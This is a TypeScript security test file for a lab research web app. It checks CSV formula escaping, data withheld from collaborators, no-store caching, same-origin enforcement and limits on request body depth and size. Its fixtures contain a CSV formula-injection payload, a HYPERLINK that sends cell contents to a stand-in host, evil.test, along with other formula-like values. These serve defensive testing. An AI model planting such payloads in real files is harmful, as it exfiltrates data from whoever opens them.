/**
 * Issue 14, findings 6, 8 and 9: formula-escaped CSV exports, the reporting checklist from released data only,
 * no caching of private replies, strict same-origin checks on state-changing requests, JSON depth and streamed
 * size limits, and a message instead of a 500 on the compare page of a study without fields. Against the
 * running app and PostgreSQL.
 */
import { describe, expect } from 'vitest';
import http from 'node:http';
import { eq } from 'drizzle-orm';
import { AppClient, APP_URL } from '../support/client';
import { ownStudy } from '../support/demoField';
import type { Db } from '../../src/lib/db/client';
import { markerChannels, samples, studies } from '../../src/lib/db/schema';
import { test, it } from '../support/fixtures';

let db: Db;
let admin: AppClient;
let studyId: string;
let sampleId: string;
const HOSTILE_STUDY = 'Pilot, =HYPERLINK("http://evil.test/?x="&A1,"open")';
const UNRELEASED_METHOD = 'ultracentrifugation-unreleased-7Q';

test.beforeAll(async ({ db: fileDb, signedIn }) => {
  db = fileDb;
  admin = await signedIn('admin');
  // a study of its own (demo members and panel), renamed and with a marker named like a formula
  studyId = await ownStudy(db, 'Security CSV');
  await db.update(studies).set({ name: HOSTILE_STUDY }).where(eq(studies.id, studyId));
  const panel = await db.select().from(markerChannels).where(eq(markerChannels.studyId, studyId)).orderBy(markerChannels.channelIndex);
  await db.update(markerChannels).set({ marker: '+1-1' }).where(eq(markerChannels.id, panel[0].id));
  if (panel.length > 1) await db.update(markerChannels).set({ marker: '@SUM(A1:A9)' }).where(eq(markerChannels.id, panel[1].id));
  const [a] = await db.insert(samples).values({ studyId, code: 'SEC-A1', groupLabel: 'group =A1', isolationMethod: UNRELEASED_METHOD }).returning();
  await db.insert(samples).values({ studyId, code: 'SEC-B1', groupLabel: 'group B', isolationMethod: UNRELEASED_METHOD, controlKind: 'isotype' });
  sampleId = a.id;
});

describe('CSV exports', () => {
  it('escapes a marker named like a formula in the lab per-vesicle export header', async () => {
    const res = await admin.fetch(`/api/vesicles/export.csv?sampleId=${sampleId}`);
    expect(res.status).toBe(200);
    const lines = (await res.text()).split('\n');
    expect(lines[0]).toMatch(/^# Research use only/);
    const header = lines[1].split(',');
    // every column named after the marker carries the apostrophe; none starts like a formula
    const markerColumns = header.filter((h) => h.includes('+1-1'));
    expect(markerColumns.length).toBeGreaterThanOrEqual(2);
    expect(header).toContain("'+1-1_amplitude_counts");
    for (const c of markerColumns) expect(c.startsWith("'+1-1")).toBe(true);
    if (header.some((h) => h.includes('SUM'))) expect(header).toContain("'@SUM(A1:A9)_amplitude_counts");
    for (const cell of header) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('escapes every comma-separated piece of the comparison export\'s comment lines', async () => {
    const res = await admin.fetch(`/api/studies/${studyId}/comparison.csv?source=current`);
    expect(res.status).toBe(200);
    const text = await res.text();
    const comments = text.split('\r\n').filter((l) => l.startsWith('#'));
    expect(comments.length).toBeGreaterThanOrEqual(2);
    const study = comments.find((l) => l.includes('HYPERLINK'))!;
    expect(study).toContain(`'=HYPERLINK(`);
    for (const l of comments) for (const piece of l.split(',')) expect(piece.trimStart()).not.toMatch(/^[=+\-@\t\r"]/);
  });
});

describe('collaborator views', () => {
  it('shows no metadata of unreleased samples in the reporting checklist, and the page answers without a 500', async ({ signedIn }) => {
    const collab = await signedIn('collaborator');
    const page = await collab.fetch(`/studies/${studyId}/compare`);
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).not.toContain(UNRELEASED_METHOD);
    expect(html).not.toContain('SEC-A1');
    expect(html).not.toMatch(/1 control sample\(s\)/);
  });

  it('answers the lab\'s compare page of a study with samples but no fields with a page, not a 500', async () => {
    const res = await admin.fetch(`/studies/${studyId}/compare?source=current`);
    expect(res.status).toBeLessThan(500);
    expect(res.status).not.toBe(404);
  });
});

describe('headers and request bodies', () => {
  it('marks private JSON and pages private, no-store', async ({ signedIn }) => {
    const bio = await signedIn('biologist');
    for (const path of ['/api/me', '/api/studies', '/', `/studies/${studyId}`, '/signin']) {
      const res = await bio.fetch(path);
      expect(res.headers.get('cache-control'), path).toMatch(/private/);
      expect(res.headers.get('cache-control'), path).toMatch(/no-store/);
    }
  });

  it('refuses state-changing JSON requests from another origin, or with no origin at all, and changes nothing', async () => {
    const name = `Cross-site JSON ${Date.now()}`;
    const evil = await admin.fetch('/api/studies', { method: 'POST', headers: { origin: 'http://evil.test', 'content-type': 'application/json' }, body: JSON.stringify({ name }) });
    expect(evil.status).toBe(403);
    expect((await evil.json()).error).toBe('cross_origin');
    const bare = await fetch(`${APP_URL}/api/studies`, { method: 'POST', headers: { cookie: admin.cookieHeader(), 'content-type': 'application/json' }, body: JSON.stringify({ name }) });
    expect(bare.status).toBe(403);
    const sibling = await admin.fetch('/api/password-reset', { method: 'POST', headers: { origin: 'http://127.0.0.1:1', 'content-type': 'application/json' }, body: JSON.stringify({ email: 'x@lab.example' }) });
    expect(sibling.status).toBe(403);
    const list = (await (await admin.fetch('/api/studies')).json()).studies as { name: string }[];
    expect(list.some((s) => s.name === name)).toBe(false);
  });

  it('refuses JSON nested deeper than the limit with 400 and a message', async () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    const res = await admin.fetch('/api/studies', { method: 'POST', headers: { 'content-type': 'application/json' }, body: deep });
    expect(res.status).toBe(400);
    const body = await res.json();
    expect(body.error).toBe('too_deep');
    expect(body.message).toMatch(/deeper than 32 levels/);
  });

  it('answers an oversized body with 413 before it has been sent', async () => {
    const url = new URL('/api/studies', APP_URL);
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.request({
        host: url.hostname, port: url.port, path: url.pathname, method: 'POST',
        headers: { 'content-type': 'application/json', 'content-length': String(50 * 1024 * 1024), origin: APP_URL, cookie: admin.cookieHeader() },
      }, (res) => { resolve(res.statusCode ?? 0); res.resume(); req.destroy(); });
      req.on('error', reject);
      // only the first bytes of the 50 MB declared; the reply must come without the rest
      req.write('{"name":"');
    });
    expect(status).toBe(413);
  });
});
